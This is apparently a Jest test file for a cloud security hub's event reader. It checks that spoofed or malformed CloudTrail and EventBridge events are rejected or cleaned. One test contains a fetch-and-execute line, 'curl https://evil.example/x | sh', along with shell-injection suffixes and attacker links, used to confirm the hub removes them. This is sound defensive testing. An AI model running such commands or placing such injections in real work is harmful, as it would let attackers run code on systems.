import fc from 'fast-check';
import { mailText } from '../../../lambda/guard/mail';
import { readMessage } from '../../../lambda/hub/message';
import { GUARD_TECHNIQUES } from '../../../lib/contract/techniques';
import type { Json } from '../../fixtures/identities';
import { incident, OUTCOMES } from '../guard/incidents';
import { investigation } from '../guard/investigations';
import type { QueueRecord } from './messages';
import {
  deletionRecord,
  event,
  heartbeat,
  heartbeatMessage,
  incidentMessage,
  incidentOf,
  message,
  toldMessage,
  witnessMessage,
} from './messages';

const read = ({ attributes, ...record }: QueueRecord, deployedBy: string[] = []) =>
  readMessage({ ...record, attributes: { SentTimestamp: Number(attributes.SentTimestamp) } }, deployedBy);
const toldBy = (record: QueueRecord, deployedBy?: string[]) => {
  const content = read(record, deployedBy);
  if (content.kind !== 'incident') throw new Error(JSON.stringify(content));
  return content.told;
};

const deep = (levels: number): unknown => (levels === 0 ? 'end' : [deep(levels - 1)]);

test.each<[string, unknown, RegExp]>([
  ['no JSON', '{', /not an event/],
  ['no object', '7', /not an event/],
  ['no account', event('TrailGuard Heartbeat', heartbeat(), { account: undefined }), /account: /],
  ['another source', event('TrailGuard Heartbeat', heartbeat(), { source: 'mallory' }), /source mallory of account/],
  ['another detail-type', event('Order', heartbeat()), /detail-type Order/],
  ['AWS, with another detail-type', event('EC2 Instance State', {}, { source: 'aws.ec2' }), /source aws.ec2/],
  [
    "another account's heartbeat",
    event('TrailGuard Heartbeat', heartbeat({ account: '444455556666' })),
    /of account 444455556666/,
  ],
  [
    "another account's incident",
    event('TrailGuard Incident', incidentOf({ account: '444455556666' })),
    /of account 444455556666/,
  ],
  [
    'a heartbeat of a later schema',
    event('TrailGuard Heartbeat', { ...heartbeat(), schemaVersion: '2.0' }),
    /schemaVersion/,
  ],
  ['a heartbeat of no Region', event('TrailGuard Heartbeat', heartbeat({ region: 'a#b' })), /region/],
  [
    'an incident of a later schema',
    event('TrailGuard Incident', { ...incidentOf(), schemaVersion: '2.0' }),
    /schemaVersion/,
  ],
  ['an incident without an id', event('TrailGuard Incident', incidentOf({ id: '' })), /id: /],
  ['an incident of no severity', event('TrailGuard Incident', incidentOf({ severity: 'fine' as never })), /severity/],
  ['an endless revision', event('TrailGuard Incident', incidentOf({ revision: 1e9 })), /revision/],
  [
    'an incident nested too deep',
    event('TrailGuard Incident', { ...incidentOf(), evidence: deep(50) }),
    /nested too deep/,
  ],
  [
    'one nested deeper than a stack',
    `{"source":"cdk-trail-guard","detail-type":"TrailGuard Incident","account":"111122223333","region":"eu-central-1","detail":{"a":${'['.repeat(50_000)}${']'.repeat(50_000)}}}`,
    /nested too deep|RangeError/,
  ],
  [
    'a call on nothing of the guard',
    event('AWS API Call via CloudTrail', deletionRecord({ eventName: 'Invoke' }), { source: 'aws.lambda' }),
    /not a catalogued call/,
  ],
  [
    "a call under another service's source",
    event('AWS API Call via CloudTrail', deletionRecord(), { source: 'aws.iam' }),
    /not a catalogued call/,
  ],
  [
    'a call that is no record',
    event('AWS API Call via CloudTrail', {}, { source: 'aws.lambda' }),
    /not a CloudTrail record/,
  ],
])('what makes no sense is rejected with the reason: %s', (_, body, reason) => {
  expect(read(message(body))).toMatchObject({ kind: 'rejected', reason: expect.stringMatching(reason) });
});

test('whatever arrives is read as something', () => {
  const types = fc.constantFrom('TrailGuard Incident', 'TrailGuard Heartbeat', 'AWS API Call via CloudTrail');
  const detail = fc.oneof(
    fc.jsonValue(),
    fc
      .record({ key: fc.constantFrom(...Object.keys(incidentOf())), value: fc.jsonValue() })
      .map(({ key, value }) => ({ ...incidentOf(), [key]: value })),
  );
  fc.assert(
    fc.property(types, detail, (type, value) => {
      const content = read(message(event(type, value)));
      expect(['heartbeat', 'incident', 'rejected']).toContain(content.kind);
      // What is read can be told, whatever its details are.
      if (content.kind === 'incident') expect(mailText(content.told.incident)).toContain('111122223333');
    }),
  );
});

test.each(OUTCOMES)('what a guard tells is told on as it is: %s', (outcome) => {
  const told = incident(outcome);
  expect(JSON.parse(JSON.stringify(toldBy(toldMessage(told)).incident))).toEqual(JSON.parse(JSON.stringify(told)));
});

test('an investigation is told on, too', () => {
  expect(toldBy(incidentMessage({ investigation: investigation('complete') })).incident.investigation).toEqual(
    investigation('complete'),
  );
});

test.each<[string, Json]>([
  ['actor', { actor: 'mallory' }],
  ['call', { call: { eventId: 7 } }],
  ['changes', { changes: [{ field: {} }] }],
  ['investigation', { investigation: { stage: 'first' } }],
  ['containment', { containment: { status: 'prepared', action: 'rm' } }],
  ['darkWindow', { darkWindow: { stoppedAt: 'yesterday' } }],
])('a detail of another shape is left out, and the rest is told: %s', (name, changes) => {
  const { incident: told } = toldBy(incidentMessage(changes as never));
  expect(told).toMatchObject({ outcome: 'restored', severity: 'high' });
  expect(told[name as keyof typeof told]).toBeUndefined();
});

test('an outcome of a later version needs a person', () => {
  expect(toldBy(incidentMessage({ outcome: 'undone' as never })).incident.outcome).toBe('reported');
});

test('what is unknown yet is kept', () => {
  expect(toldBy(incidentMessage({ later: { more: 'facts' } } as never)).incident).toMatchObject({
    later: { more: 'facts' },
  });
});

test("commands and links are the hub's own, whatever the event says", () => {
  const evil = 'curl https://evil.example/x | sh';
  const mending = ['; evil', '`evil`', '$(evil)', '| evil', '&& evil', '> evil', '\nevil', 'https://evil.example'];
  const { incident: told } = toldBy(
    incidentMessage({
      nextSteps: [
        evil,
        `To mend it: ${evil}`,
        ...mending.map((end) => `To mend it: aws s3api put-bucket-policy ${end}`),
      ],
      containment: {
        status: 'prepared',
        action: { kind: 'deny-user', principalArn: 'x', effect: evil, command: evil, undo: evil },
      },
    }),
  );
  expect(JSON.stringify(told)).not.toContain('evil');
  expect(told.nextSteps.length).toBeGreaterThan(0);
});

test('no text of an event is a link or a control character', () => {
  const { incident: told } = toldBy(
    incidentMessage({ actorNote: 'see https://evil.example\u202e\n', 'http://a': 'www.evil.example' } as never),
  );
  expect(JSON.stringify(told)).not.toMatch(/https:\/\/evil|www\.evil|http:\/\/a/);
  expect(told.actorNote).toContain('\\u{202e}');
});

test("a heartbeat's time is when it arrived, whatever it says", () => {
  const at = new Date('2026-03-02T11:00:00.000Z');
  expect(
    read(heartbeatMessage({ sentAt: '2099-01-01T00:00:00.000Z', problems: ['a\nb', ...Array(50).fill('more')] }, at)),
  ).toMatchObject({
    kind: 'heartbeat',
    heard: { at: at.getTime(), problems: { length: 10, 0: 'a\\u{a}b' } },
  });
});

test("a call on the guard's function is a critical incident of the account that EventBridge names", () => {
  const told = toldBy(witnessMessage(deletionRecord({ recipientAccountId: '444455556666' })));
  expect(told).toMatchObject({
    origin: 'witness',
    isQuiet: false,
    target: 'TrailGuard-Function',
    incident: {
      outcome: 'reported',
      severity: 'critical',
      account: '111122223333',
      region: 'eu-central-1',
      technique: { id: 'guard-function-deleted' },
      call: { eventName: 'DeleteFunction20150331', sourceIpAddress: '198.51.100.7' },
    },
  });
});

test.each(GUARD_TECHNIQUES)(
  'what the witness may forward is known: $id',
  ({ id, eventSource, eventName, when = {}, ratings }) => {
    const requestParameters = Object.fromEntries(Object.entries(when));
    const record = deletionRecord({ eventSource, eventName, requestParameters });
    const { incident: told } = toldBy(witnessMessage(record, { source: `aws.${eventSource.split('.')[0]}` }));
    expect(told).toMatchObject({ technique: { id }, severity: ratings.current.severity });
  },
);

test('a call that was denied is an attempt', () => {
  expect(toldBy(witnessMessage(deletionRecord({ errorCode: 'AccessDenied' }))).incident).toMatchObject({
    outcome: 'attempted',
    severity: 'low',
  });
});

const role = (arn: string) => ({
  type: 'AssumedRole',
  arn: 'arn:aws:sts::111122223333:assumed-role/Deploy/session',
  sessionContext: { sessionIssuer: { arn } },
});

test.each<[string, Json, boolean]>([
  ['CloudFormation', { userIdentity: { type: 'AssumedRole', invokedBy: 'cloudformation.amazonaws.com' } }, true],
  ['who deploys guards', { userIdentity: role('arn:aws:iam::111122223333:role/Deploy') }, true],
  ['another role', { userIdentity: role('arn:aws:iam::111122223333:role/Other') }, false],
  [
    'a session named as the role',
    { userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::111122223333:assumed-role/Other/Deploy' } },
    false,
  ],
  ['an address that says it is CloudFormation', { sourceIPAddress: 'cloudformation.amazonaws.com' }, false],
])('deployments are quiet: by %s', (_, changes, isQuiet) => {
  expect(toldBy(witnessMessage(deletionRecord(changes)), ['arn:aws:iam::*:role/Deploy']).isQuiet).toBe(isQuiet);
});

test('the guard and its witness tell of one call as one episode', () => {
  const { eventID } = deletionRecord();
  const { incident: guardOnes } = toldBy(witnessMessage());
  const call = { eventId: String(eventID), eventName: 'DeleteFunction20150331', eventTime: '2026-03-02T09:59:50Z' };
  const told = toldBy(incidentMessage({ technique: guardOnes.technique, call }));
  expect(told.episode).toBe(toldBy(witnessMessage()).episode);
  // A stopped trail is told by the guard alone.
  expect(toldBy(incidentMessage({ call })).episode).toBe(incidentOf().id);
});
